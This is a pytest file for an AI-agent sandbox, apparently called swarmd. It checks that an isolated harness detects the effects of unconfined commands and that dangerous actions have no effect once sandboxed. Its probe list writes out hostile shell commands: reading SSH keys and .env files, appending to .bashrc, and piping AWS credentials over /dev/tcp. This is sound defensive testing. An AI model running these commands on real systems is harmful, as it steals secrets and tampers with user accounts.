"""Security measured by effects (a slice; the whole corpus: bench/governor_effects.py).

Actions go through the real execution path in a throwaway root (a private
mount namespace with tmpfs over /root, /home and /tmp and a copy of /etc)
seeded with canaries; see :mod:`swarmd.testing.effects`.
"""

from __future__ import annotations

import os
import shutil

import pytest

from swarmd.testing.effects import NotThrowaway, require_throwaway_root, run_isolated
from swarmd.governor.sandbox import probe

from .conftest import REPO, load_corpus

POLICY = str(REPO / "src" / "swarmd" / "policy.yaml")
pytestmark = [
    pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("unshare"), reason="needs root for unshare -m"),
    pytest.mark.skipif(not probe().available, reason="bwrap not usable here"),
]
#: one or two rows of each dangerous class that reach the sandbox when asked ones are approved
DANGEROUS_SLICE = ["d-005", "d-018", "d-069", "d-085", "d-193", "d-297", "d-340", "d-351", "d-361", "d-380",
                   "d-385", "d-389", "d-401", "d-409", "d-415", "d-420"]
#: harness check: what these do unconfined must be seen
PROBES = [{"id": "p-read", "category": "probe", "tool": "shell", "args": {"command": "cat /root/.ssh/id_rsa .env"}},
          {"id": "p-write", "category": "probe", "tool": "shell", "args": {"command": "echo x >> /root/.bashrc"}},
          {"id": "p-call", "category": "probe", "tool": "shell",
           "args": {"command": "cat /root/.aws/credentials > /dev/tcp/127.0.0.1/{PORT}"}},
          {"id": "p-host", "category": "probe", "tool": "shell", "args": {"command": "touch /etc/evil-marker"}}]


def _rows(name, ids=None):
    rows = load_corpus(name)
    return [r for r in rows if ids is None or r["id"] in ids]


def test_harness_refuses_the_real_machine():
    with pytest.raises(NotThrowaway):
        require_throwaway_root(os.path.expanduser("~"))


def test_harness_sees_effects_of_unconfined_commands():
    res = {r.id: r for r in run_isolated(PROBES, POLICY, bypass=True, confined=False, action_timeout_s=5)}
    assert set(res["p-read"].effects["read"].split(",")) == {"ssh_key", "dotenv"}
    assert res["p-write"].effects["written"].endswith("/.bashrc")
    assert res["p-call"].effects.keys() >= {"read", "contacted"}
    assert res["p-host"].effects == {"host": "/etc/evil-marker"}


def test_dangerous_slice_has_no_effect_even_when_approved_or_unjudged():
    rows = _rows("dangerous.jsonl", DANGEROUS_SLICE)
    assert len(rows) == len(DANGEROUS_SLICE)
    for r in run_isolated(rows, POLICY, approve=True, action_timeout_s=5):
        assert not r.effects, r
    shell = [r for r in rows if r["tool"] == "shell" and r["category"] != "resource-exhaustion"]
    for r in run_isolated(shell, POLICY, bypass=True, action_timeout_s=5):
        assert not r.effects, r


def test_benign_slice_runs_and_succeeds():
    rows = _rows("benign_run.jsonl")[::15]
    res = run_isolated(rows, POLICY)
    for row, r in zip(rows, res):
        assert (r.decision, r.ran, r.exit_code, r.effects) == ("allow", True, 0, {}), (row, r)
        assert row["output"] in r.output, (row, r)
